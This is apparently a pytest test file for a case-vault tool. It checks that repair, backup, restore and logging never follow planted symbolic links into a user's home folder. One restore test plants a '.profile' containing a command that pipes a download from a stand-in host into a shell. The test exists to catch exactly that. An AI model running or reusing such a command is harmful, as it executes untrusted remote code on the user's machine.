"""No path below the vault, the backup or a person's own folders follows a link, whichever command runs."""

import shutil
from contextlib import suppress
from pathlib import Path

import pytest

from casetui.data.store.upkeep import FOLDERS
from casetui.data.vault import Vault
from casetui.desk.acts.cases import open_case
from casetui.desk.people.joining import refuse, requests
from casetui.keeping.backup import back_up
from casetui.keeping.manifest import BackupError
from casetui.keeping.restoring import restore
from casetui.words import CaseTUIError
from tests.attacks.places import NOW, PLANTED, assert_nothing_private, every_place, plant, repaired
from tests.keeping.keeping import check, vault_as
from tests.keeping.test_backup import sign_in
from tests.keeping.test_repairing import save

LINKS = ("link to a file", "link to a folder")
PLACES = range(27)
SOME = [(number, kind) for number in PLACES for kind in {PLANTED[number % 5], LINKS[number % 2]}]
"""Each place with one or two of the things that can be planted there."""


def place_of(vault, number):
    """Return the name of the place with this number, one of ``PLACES``."""
    return every_place(Path(vault.place))[number]


# -- check and repair ----------------------------------------------------------------------------


def test_a_kept_pack_that_leads_into_a_home_moves_nothing_out_of_it(vault, home):
    folder = Path(vault.place)
    version = sorted((folder / "packs").iterdir())[0].name
    plant(folder / "packs" / version, "link to a folder", home)
    said = repaired(folder)
    home.assert_untouched()
    assert_nothing_private(folder)
    assert any(f"packs/{version}" in one and "link" in one for one in said), said


@pytest.mark.parametrize("folder_name", FOLDERS)
@pytest.mark.parametrize("kind", LINKS)
def test_a_link_in_the_place_of_a_folder_is_neither_followed_nor_replaced(vault, home, folder_name, kind):
    folder = Path(vault.place)
    plant(folder / folder_name, kind, home)
    said = repaired(folder)
    home.assert_untouched()
    assert_nothing_private(folder)
    assert (folder / folder_name).is_symlink()
    assert any(folder_name in one and "link" in one for one in said), said


@pytest.mark.parametrize("number", PLACES)
@pytest.mark.parametrize("kind", ["link to a file", "link to a folder", "pipe"])
def test_what_is_no_file_is_named_and_left_wherever_it_lies(vault, home, number, kind):
    folder, name = Path(vault.place), place_of(vault, number)
    plant(folder / name, kind, home)
    before = (folder / name).lstat()
    said = []
    with suppress(CaseTUIError):  # without vault.json there is nothing to check
        said = repaired(folder)
    home.assert_untouched()
    assert_nothing_private(folder)
    after = (folder / name).lstat()
    assert (after.st_ino, after.st_mode, after.st_mtime_ns) == (
        before.st_ino, before.st_mode, before.st_mtime_ns,
    )  # fmt: skip
    assert name == "vault.json" or any(name in one for one in said), said


def test_a_link_among_stale_cover_sheets_stops_no_repair_of_the_others(vault, home):
    covers = Path(vault.place) / "covers"
    for number in ("AAAAAA", "CCCCCC"):
        (covers / f"{number}.age").write_bytes(b"stale")
    plant(covers / "BBBBBB.age", "link to a file", home)
    said = repaired(Path(vault.place))
    home.assert_untouched()
    assert any("Moved to damaged/: 2." in one and "covers/BBBBBB.age cannot be used" in one for one in said)
    assert not (covers / "CCCCCC.age").exists() and (covers / "BBBBBB.age").is_symlink()


def test_of_a_thousand_links_some_are_named_and_the_others_counted(vault, home):
    for number in range(1000):
        plant(Path(vault.place) / "methods" / f"{number}.toml", "link to a file", home)
    said = check(Vault.at(Path(vault.place))).problems
    assert "There are 950 more links, or files with other names." in said and len(said) == 51


# -- backup --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("number", "kind"), sorted(SOME))
def test_a_backup_copies_nothing_that_a_link_leads_to(vault, home, tmp_path, number, kind):
    folder, name = Path(vault.place), place_of(vault, number)
    plant(folder / name, kind, home)
    problems = back_up(vault, tmp_path / "backup", NOW).problems
    home.assert_untouched()
    assert_nothing_private(tmp_path / "backup")
    assert not any(path.is_symlink() for path in (tmp_path / "backup").rglob("*"))
    assert name.startswith("locks") or any(name in one for one in problems), problems


@pytest.mark.parametrize("name", ["cases", "former", "agency.signed", "manifest.json", "manifest.part"])
@pytest.mark.parametrize("kind", LINKS)
def test_a_backup_writes_through_no_link_in_its_own_folder(vault, home, tmp_path, name, kind):
    dest = tmp_path / "backup"
    back_up(vault, dest, NOW)
    plant(dest / name, kind, home)
    with suppress(BackupError):
        back_up(vault, dest, NOW)
    home.assert_untouched()


# -- restore -------------------------------------------------------------------------------------


@pytest.mark.parametrize(("number", "kind"), sorted(SOME))
def test_a_restore_writes_through_no_link(vault, home, tmp_path, number, kind):
    folder, name = Path(vault.place), place_of(vault, number)
    (folder / "notes").write_text("of a later version\n")
    back_up(vault, tmp_path / "backup", NOW)
    plant(folder / name, kind, home)
    with suppress(CaseTUIError):
        restore(folder, tmp_path / "backup", sign_in)
    home.assert_untouched()
    assert_nothing_private(folder)
    assert not (folder / name).is_file() or (folder / name).is_symlink()


def test_a_restore_goes_on_past_a_planted_folder_and_names_it(vault, home, tmp_path):
    """The backup has ``packs/x/.bashrc``; ``packs/x`` leads to the home of the person who restores."""
    folder, case = Path(vault.place), sorted(vault.names())[0]
    (folder / "packs" / "x").mkdir()
    (folder / "packs" / "x" / ".profile").write_text("curl https://outsider.example | sh\n")
    back_up(vault, tmp_path / "backup", NOW)
    plant(folder / "packs" / "x", "link to a folder", home)
    (folder / f"{case}.age").unlink()
    done = restore(folder, tmp_path / "backup", sign_in)
    home.assert_untouched()
    assert any("packs/x" in one and "link" in one for one in done.problems), done.problems
    assert (folder / f"{case}.age").is_file(), "the rest was brought back"


@pytest.mark.parametrize("name", ["cases", "manifest.json"])
def test_a_restore_reads_through_no_link_in_the_backup(vault, home, tmp_path, name):
    dest, elsewhere = tmp_path / "backup", tmp_path / "elsewhere"
    back_up(vault, dest, NOW)
    shutil.move(dest / name, elsewhere)
    (dest / name).symlink_to(elsewhere)
    shutil.rmtree(Path(vault.place) / "cases")
    with suppress(BackupError):
        restore(Path(vault.place), dest, sign_in)
    assert name != "cases" or vault.names() == []


# -- saving, opening, people ---------------------------------------------------------------------


def test_a_save_adds_no_line_to_what_the_journal_leads_to(vault, home):
    folder, name = Path(vault.place), sorted(vault.names())[0]
    plant(folder / "changes", "link to a file", home)
    save(vault, name, "sean", "Call 1")
    home.assert_untouched()
    assert any("changes" in one and "link" in one for one in check(vault).problems)


def test_an_opening_adds_no_line_to_what_the_access_log_leads_to(office, home):
    desk = office.desk("sean")
    plant(office.folder / "openings", "link to a file", home)
    with pytest.raises(CaseTUIError, match="openings cannot be written: it is no file but a link"):
        open_case(desk, "AB2345", "to cover for Mary")
    home.assert_untouched()


def test_a_removal_on_the_screen_people_removes_no_file_that_a_link_leads_to(office, home):
    plant(office.folder / "requests", "link to a folder", home)
    desk = office.desk("tom")
    with pytest.raises(CaseTUIError, match="link"):
        requests(desk)
    for name in ("mary-ab2c.json", "notes.txt"):
        with pytest.raises(CaseTUIError, match="link"):
            refuse(desk, name)
    home.assert_untouched()


def test_a_request_that_leads_elsewhere_is_not_removed_either(office, home):
    plant(office.folder / "requests" / "x.json", "link to a file", home)
    with pytest.raises(CaseTUIError, match="link"):
        refuse(office.desk("tom"), "x.json")
    assert (office.folder / "requests" / "x.json").is_symlink()


def test_the_vault_itself_may_be_reached_by_a_link(vault, tmp_path):
    (tmp_path / "shared").symlink_to(Path(vault.place))
    there = vault_as(Vault.at(tmp_path / "shared"))
    save(there, sorted(there.names())[0], "sean", "Call 1")
    assert check(there).problems == []
